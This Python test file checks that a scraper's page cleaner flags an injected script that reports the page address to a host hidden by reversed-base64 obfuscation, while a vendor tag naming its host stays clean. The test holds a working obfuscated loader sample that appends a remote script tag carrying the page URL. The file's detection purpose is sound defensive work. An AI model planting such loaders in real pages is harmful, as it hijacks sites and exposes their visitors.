"""A script that reports the page's own address to a host only running the code shows (v41 §1 B3:
rc41b-006's reversed-base64 loader appends ``<script src=//host/?getsrc=ok&ref=…&url=<page>>``)
flags the page; a segment or counter tag sending the page's address to a host its code names in
plain text stays clean (a vendor's tag shows its host)."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.test_structural import URL, page


def _with(script: str) -> bytes:
    return page(body="<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
                     "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>"
                     f"<script>{script}</script>")


def _appends(address_code: str) -> str:
    return ('(function(){var s=document.createElement("script");s.src=' + address_code
            + '+"&url="+encodeURIComponent(location.href);document.getElementsByTagName("head")[0].appendChild(s);})();')


def test_the_page_reported_to_a_host_the_code_hides_is_spam():
    hidden = 'atob("r9WPjJ3c0V2Z/8Cc3tmLuVGa3BHb5V2LvoDc0RHa".split("").reverse().join(""))'
    a = clean_page(_with(_appends(hidden)), url=URL)
    assert a.hijacked and any("eylpwh" in f.evidence for f in a.findings), a.findings


def test_the_page_reported_to_a_host_named_in_the_code_is_clean():
    a = clean_page(_with(_appends('"https://segment-data.example-seg.net/news?x=1"')), url=URL)
    assert not a.hijacked
